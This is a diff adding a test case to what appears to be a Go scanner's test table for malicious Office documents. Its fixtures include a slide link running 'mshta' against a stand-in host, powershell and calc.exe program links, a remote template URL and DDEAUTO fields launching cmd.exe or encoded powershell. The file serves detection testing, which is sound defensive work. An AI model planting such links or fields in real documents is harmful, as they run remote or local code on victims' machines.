@@ -199,6 +199,7 @@ func TestPackages(t *testing.T) {
 		{"Document.RemoteTemplate", with("word/_rels/settings.xml.rels", string(wide(rels("attachedTemplate", "http://bad.example/a.dotm")))), with("word/_rels/settings.xml.rels", string(wide(rels("attachedTemplate", "Normal.dotm"))))},
 		{"Document.ProgramLink", with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "powershell%20-NoP%20-c%20x")), with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "https://ok.example/powershell.exe"))},
 		{"Document.ProgramLink", with("word/_rels/document.xml.rels", rels("hyperlink", `file:///C:\Windows\System32\calc.exe`)), with("word/_rels/document.xml.rels", rels("hyperlink", "file:///C:/python/notes.pdf"))},
+		{"Document.ProgramLink", with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "mshta https://bad.example")), with("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "Control"))},
 		{"Document.ProgramLink", word(runs(`HYPERLINK "search-ms:query=x"`)), word(runs(`HYPERLINK "mailto:a@b.example?subject=x.exe"`))},
 		{"Document.DDE.Command", word(runs("DDE", "AUTO c:\\\\windows\\\\system32\\\\c", "md.exe \"/k calc\"")), word(runs(" PAGE "))},
 		{"Document.DDE.Command", word(`<w:document xmlns:w="w"><w:p><w:fldSimple w:instr='DDEAUTO "powershell" "-enc x"'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:document>`), word(`<w:document xmlns:w="w"><w:p><w:fldSimple w:instr='DATE'/></w:p></w:document>`)},
